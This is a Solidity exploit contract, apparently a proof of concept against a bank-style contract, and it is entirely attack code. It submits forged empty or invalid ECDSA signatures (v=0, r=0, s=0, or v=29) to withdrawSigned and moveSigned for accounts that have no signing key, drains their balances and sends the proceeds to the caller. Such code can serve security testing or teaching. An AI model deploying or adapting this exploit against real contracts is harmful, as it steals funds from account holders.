// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IAccounts {
    function balanceOf(address account) external view returns (uint256);

    function relayFee() external view returns (uint256);

    function withdraw(uint256 amount) external;

    function withdrawSigned(address account, address to, uint256 amount, uint8 v, bytes32 r, bytes32 s) external;

    function moveSigned(address account, address to, uint256 amount, uint8 v, bytes32 r, bytes32 s) external;
}

/// Hands in signatures that nobody made, for accounts that have named no key.
contract EmptySignature {
    function run(IAccounts bank, address[] calldata accounts) external {
        uint256 fee = bank.relayFee();
        for (uint256 i = 0; i < accounts.length; i++)
            bank.withdrawSigned(accounts[i], msg.sender, bank.balanceOf(accounts[i]) - fee, 0, 0, 0);
        leave(bank);
    }

    function runByMoves(IAccounts bank, address[] calldata accounts) external {
        uint256 fee = bank.relayFee();
        for (uint256 i = 0; i < accounts.length; i++)
            bank.moveSigned(accounts[i], address(this), bank.balanceOf(accounts[i]) - fee, 29, bytes32(i), bytes32(i));
        leave(bank);
    }

    function leave(IAccounts bank) private {
        bank.withdraw(bank.balanceOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
